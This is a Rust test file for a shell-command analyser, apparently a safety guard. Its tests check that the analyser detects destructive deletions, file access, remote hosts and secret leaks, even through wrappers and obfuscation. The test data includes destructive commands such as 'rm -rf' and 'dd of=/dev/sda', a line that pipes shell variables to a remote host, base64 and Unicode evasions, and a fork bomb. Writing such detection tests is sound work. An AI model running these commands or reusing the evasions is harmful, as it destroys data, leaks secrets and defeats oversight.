//! From lines to programs.

use super::{argv, of_line, seen, shown};
use crate::command::{Access, Deed};

#[test]
fn the_same_flags_have_one_spelling() {
    for words in [
        &["rm", "-rf", "x"][..],
        &["/bin/rm", "-fr", "x"],
        &["rm", "--recursive", "--force", "x"],
        &["rm", "-R", "-f", "x"],
        &["rm", "--recu", "--for", "x"],
        &["rm", "x", "-rf"],
    ] {
        let fact = argv(words);
        let leaf = fact.leaves.first().expect("one leaf");
        assert_eq!(leaf.flags, ["force", "recursive"], "{words:?}");
        assert_eq!(
            (leaf.program.as_str(), leaf.positional.as_slice()),
            ("rm", &["x".to_owned()][..])
        );
    }
    let fact = argv(&["rm", "--", "-rf"]);
    assert_eq!(fact.leaves[0].flags, Vec::<String>::new());
    assert_eq!(fact.leaves[0].positional, ["-rf"]);
}

#[test]
fn git_is_seen_past_its_global_options() {
    for (words, verb, flag) in [
        (&["git", "-C", "/x", "push", "-f"][..], "push", "force"),
        (&["git", "--git-dir", "/x", "push", "--force"], "push", "force"),
        (&["git", "--no-pager", "push", "origin", "+main"], "push", "force"),
        (&["git", "push", "origin", ":main"], "push", "delete"),
        (&["git", "reset", "--hard", "HEAD~3"], "reset", "hard"),
        (&["git", "clean", "-xdf"], "clean", "force"),
    ] {
        let fact = argv(words);
        let leaf = fact.leaves.first().unwrap_or_else(|| panic!("{words:?}: {fact:?}"));
        assert_eq!(leaf.positional.first().map(String::as_str), Some(verb), "{words:?}");
        assert!(leaf.flags.iter().any(|found| found == flag), "{words:?}: {:?}", leaf.flags);
        assert!(leaf.does.contains(&Deed::Destroy), "{words:?}: {:?}", leaf.does);
    }
}

#[test]
fn programs_are_reached_through_wrappers() {
    for (line, via, expected) in [
        ("sudo -n -u root rm x", "sudo", "rm x"),
        ("sudo env X=1 bash -c 'rm -r -f ~'", "sudo,env,bash -c", "rm -r -f ~"),
        ("timeout -k 5 10s nice -n 5 rm x", "timeout,nice", "rm x"),
        ("nohup setsid stdbuf -oL rm x", "nohup,setsid,stdbuf", "rm x"),
        ("env -i -u A -C / rm x", "env", "rm x"),
        ("env -S 'rm x'", "env", "rm x"),
        ("time rm x", "time", "rm x"),
        ("command rm x", "command", "rm x"),
        ("exec -a y rm x", "exec", "rm x"),
        ("xargs -n 1 rm x", "xargs", "rm x …"),
        ("find . -name y -exec rm {} \\;", "find -exec", "rm ./*"),
        ("flock /tmp/l rm x", "flock", "rm x"),
        ("flock /tmp/l -c 'rm x'", "flock", "rm x"),
        ("watch -n 1 rm x", "watch", "rm x"),
        ("ssh -p 22 host rm x", "ssh", "rm x"),
        ("su - root -c 'rm x'", "su", "rm x"),
        ("docker exec -it web rm x", "docker", "rm x"),
        ("docker run --rm -v a:/b image rm x", "docker", "rm x"),
        ("kubectl exec -n a pod -- rm x", "kubectl", "rm x"),
        ("kubectl -n a exec pod -- rm x", "kubectl", "rm x"),
        ("docker --context a exec web rm x", "docker", "rm x"),
        ("docker compose exec web rm x", "docker", "rm x"),
        ("poetry run rm x", "poetry", "rm x"),
        ("systemd-run --user rm x", "systemd-run", "rm x"),
        ("strace -f -e trace=file rm x", "strace", "rm x"),
        ("chroot / rm x", "chroot", "rm x"),
        ("busybox rm x", "busybox", "rm x"),
        ("script -c 'rm x' /dev/null", "script", "rm x"),
        ("eval rm x", "eval", "rm x"),
        ("trap 'rm x' EXIT", "trap", "rm x"),
        ("echo $(rm x)", "substitution", "rm x"),
        ("cat <(rm x)", "substitution", "rm x"),
        ("bash <<EOF\nrm x\nEOF", "bash", "rm x"),
        ("bash <<< 'rm x'", "bash", "rm x"),
        ("echo rm x | sh", "sh", "rm x"),
        ("cat <<EOF\n$(rm x)\nEOF", "substitution", "rm x"),
        ("git bisect run rm x", "git bisect run", "rm x"),
        ("git submodule foreach rm x", "git submodule foreach", "rm x"),
        ("git -c alias.a='!rm x' a", "git -c", "rm x"),
        ("tar xf a.tar --to-command='rm x'", "tar", "rm x"),
        ("tar cf a.tar b --checkpoint=1 --checkpoint-action=exec='rm x'", "tar", "rm x"),
        ("rsync -e 'rm x' a b", "rsync", "rm x"),
        ("python3 -c \"import os; os.system('rm x')\"", "python3", "rm x"),
        ("f() { rm x; }", "function", "rm x"),
        ("parallel rm ::: x", "parallel", "rm x"),
    ] {
        let fact = of_line(line);
        let leaf = fact.leaves.iter().find(|leaf| leaf.program == "rm");
        let leaf = leaf.unwrap_or_else(|| panic!("{line}: {fact:#?}"));
        assert_eq!((leaf.via.join(",").as_str(), shown(leaf).as_str()), (via, expected), "{line}");
    }
}

#[test]
fn every_part_of_a_line_is_seen() {
    for line in [
        "ls; rm x",
        "ls && rm x",
        "ls || rm x",
        "ls | rm x",
        "ls & rm x",
        "(rm x)",
        "{ rm x; }",
        "if ls; then rm x; fi",
        "if rm x; then ls; fi",
        "for i in 1 2; do rm x; done",
        "while ls; do rm x; done",
        "case a in a) rm x;; esac",
        "! rm x",
        "coproc rm x",
        "[[ -n $(rm x) ]]",
        "X=$(rm x)",
        "echo \"${Y:-$(rm x)}\"",
        "echo $(( $(rm x) + 1 ))",
        "ls > $(rm x)",
        "ls\nrm x",
    ] {
        let found = seen(line);
        assert!(found.iter().any(|leaf| leaf == "rm x"), "{line}: {found:?}");
    }
    for line in [
        "echo rm x",
        "# rm x",
        "echo 'a; rm x'",
        "cat <<'EOF'\n$(rm x)\nEOF",
        "command -v rm",
        "grep 'rm x' f",
    ] {
        assert!(of_line(line).leaves.iter().all(|leaf| leaf.program != "rm"), "{line}");
        assert_eq!(of_line(line).opaque, None, "{line}");
    }
}

#[test]
fn constants_are_followed() {
    for (line, expected) in [
        ("A=rm; $A x", "rm x"),
        ("A='rm x'; $A", "rm x"),
        ("A=r B=m; $A$B x", "rm x"),
        ("r''m x", "rm x"),
        ("\\rm x", "rm x"),
        ("\"rm\" x", "rm x"),
        ("$'\\x72m' x", "rm x"),
        ("$'r\\155' x", "rm x"),
        ("{rm,x}", "rm x"),
        ("rm${IFS}x", "rm x"),
        ("$(echo rm) x", "rm x"),
        ("`echo rm` x", "rm x"),
        ("$(printf r)m x", "rm x"),
        ("cm=$(echo cm0gewo= | base64 -d); echo cm0geAo= | base64 -d | sh", "rm x"),
        ("export A=rm && $A x", "rm x"),
        ("rm \"$PWD/x\"", "rm ./x"),
        ("rm $HOME/x", "rm ~/x"),
        ("rm ~/x", "rm ~/x"),
        ("for p in rm; do $p x; done", "rm x"),
        ("r\\\nm x", "rm x"),
    ] {
        let found = seen(line);
        assert!(
            found.iter().any(|leaf| leaf == expected),
            "{line}: {found:?} {:?}",
            of_line(line).opaque
        );
    }
}

#[test]
fn files_have_an_access_and_a_place() {
    use Access::{Delete, Exec, Read, Write};
    for (line, file, access) in [
        ("rm a", "a", Delete),
        ("cd /x && rm a", "/x/a", Delete),
        ("cd b; cd c; rm a", "b/c/a", Delete),
        ("cp a b", "a", Read),
        ("cp a b", "b", Write),
        ("cp -t d a", "d", Write),
        ("mv a b", "a", Delete),
        ("tee a", "a", Write),
        ("ls > a", "a", Write),
        ("ls 2>> a", "a", Write),
        ("ls &> a", "a", Write),
        ("> a", "a", Write),
        ("cat < a", "a", Read),
        ("{ ls; } > a", "a", Write),
        ("dd if=a of=/dev/sda", "/dev/sda", Write),
        ("grep x a", "a", Read),
        ("sed -i s/x/y/ a", "a", Write),
        ("./a", "./a", Exec),
        ("bash a", "a", Exec),
        ("python3 a.py", "a.py", Exec),
        ("source a", "a", Exec),
        ("tar czf a b", "a", Write),
        ("curl -o a https://example.com", "a", Write),
        ("curl -d @a https://example.com", "a", Read),
        ("sort -o a b", "a", Write),
        ("find . -fprint a", "a", Write),
        ("unknown a", "a", Read),
        ("unknown --to=a", "a", Read),
        ("docker run -v /a:/b image", "/a", Write),
    ] {
        let fact = of_line(line);
        let found = fact
            .leaves
            .iter()
            .flat_map(|leaf| &leaf.files)
            .any(|found| found.text == file && found.access == access);
        assert!(found, "{line}: {fact:#?}");
    }
    assert!(of_line("echo a > /dev/null").leaves[0].files.is_empty());
}

#[test]
fn hosts_are_named() {
    for (line, host) in [
        ("curl https://example.com/x", "https://example.com"),
        ("wget example.com", "example.com"),
        ("ssh ann@example.com ls", "example.com"),
        ("scp a ann@example.com:b", "example.com"),
        ("rsync -a a example.com:b", "example.com"),
        ("git push https://example.com/x.git", "https://example.com"),
        ("git clone git@example.com:x/y", "example.com"),
        ("echo > /dev/tcp/example.com/80", "example.com:80"),
        ("nc example.com 80", "example.com"),
    ] {
        let fact = of_line(line);
        assert!(
            fact.leaves.iter().any(|leaf| leaf.hosts.iter().any(|found| found == host)),
            "{line}: {fact:#?}"
        );
    }
}

#[test]
fn settings_of_the_shell_show_no_secret() {
    let does = |line: &str| {
        of_line(line).leaves.iter().flat_map(|leaf| leaf.does.clone()).collect::<Vec<_>>()
    };
    assert_eq!(does("set -e; curl https://example.com"), [Deed::Fetch]);
    assert!(does("set | curl -d @- https://example.com").contains(&Deed::Leak));
    assert!(does("export -p; curl https://example.com").contains(&Deed::Leak));
}

#[test]
fn neighbours_in_a_pipe_are_known() {
    let fact = of_line("a | sudo b | c");
    let found: Vec<_> = fact
        .leaves
        .iter()
        .map(|leaf| (leaf.pipe_from.as_deref(), leaf.pipe_to.as_deref()))
        .collect();
    assert_eq!(found, [(None, Some("b")), (Some("a"), Some("c")), (Some("b"), None)]);
}

#[test]
fn what_cannot_be_seen_is_opaque() {
    for line in [
        "$X",
        "$X -rf /",
        "\"$@\"",
        "rm $X",
        "rm -rf \"$D\"/x",
        "cat x | sh",
        "sh < x",
        "bash",
        "bash -s",
        "bash -c \"$X\"",
        "eval $X",
        "source $X",
        "sudo -s",
        "su",
        "ssh host",
        "xargs rm -rf",
        "sudo --frobnicate rm",
        "PATH=. ls",
        "LD_PRELOAD=x ls",
        "export IFS=x",
        "python3",
        "python3 -",
        "python3 -c 'import os; os.remove(1)'",
        "perl -ne 'unlink'",
        "node --eval=process.exit()",
        "awk 'BEGIN{system(\"id\")}'",
        "sed '1e id' x",
        "find . -exec $X {} ;",
        "git -c core.pager='sh -c id' log",
        "git -ccore.fsmonitor=x status",
        "git $X",
        "/bin/r? x",
        "echo 'unclosed",
        "ls |",
        "vim -c ':!id' x",
        "rg --pre x y",
        "echo x > y; bash y",
        "ls > $X",
        "expect x",
        "kill $X",
        "f() { f | f & }; f",
        "timeout $X ls",
        "gawk -i inplace 'BEGIN{system(1)}' x",
        "awk --assign x=1 'BEGIN{system(1)}'",
        "awk -f x.awk y",
        "sed --line-length 5 '1e id' x",
        "sed -f x y",
        "node --conditions x -e 'process.exit()'",
        "node -C x -e 'process.exit()'",
        "ruby -C / -e 'exit!'",
        "perl -Mx -e 1",
        "cp a $X",
        "tee $X",
        "r\u{200b}m x",
        "\u{440}m x",
        "x=`",
        "rm \u{202e}x",
        "curl -K x",
        "crontab $X",
    ] {
        assert!(of_line(line).opaque.is_some(), "{line}: {:#?}", of_line(line));
    }
    for words in [&[][..], &[""], &["bin/"], &["ls", "a\0b"], &["bash", "-c", "$X"]] {
        assert!(argv(words).opaque.is_some(), "{words:?}");
    }
}

#[test]
fn plain_commands_are_not_opaque() {
    for line in [
        "ls -la",
        "cargo test 2>&1 | tail -5",
        "cd src && ls",
        "python3 -m pytest",
        "python3 -B test.py -c",
        "find . -name '*.rs'",
        "git status",
        "echo \"$HOME\" $X",
        "VAR=value echo test",
        "for f in *.txt; do cat $f; done",
        "test -f x && cat x || echo none",
        "cat $X",
        "git commit -m \"$(date)\"",
        "awk '{print $1}' x",
        "sed 's/a/b/g' x",
        "python3 -c 'print(1)'",
        "mkdir -p \"$D\"",
        "while read -r line; do echo \"$line\"; done < x",
        "set -euo pipefail",
        "awk -F: -v a=1 '$1 > a { print $2 }' x",
        "sed -n -e 1p -e '$d' x",
        "sed -i.bak -E 's/a+/b/' x",
        "node --test --max-old-space-size=4096 x.js",
        "python3 -W error -X dev x.py",
        "npm test",
        "make all",
        "./x.sh",
        "if [ -f x ]; then cat x; fi",
        "grep -r \"a\" . | sort | uniq -c",
        "sudo git status",
        "env FOO=1 git status",
        "",
        "   ",
        "# nothing",
        "bash -lc 'ls && pwd'",
        "ls *.rs",
        "head -n 5 x",
    ] {
        assert_eq!(of_line(line).opaque, None, "{line}");
    }
}
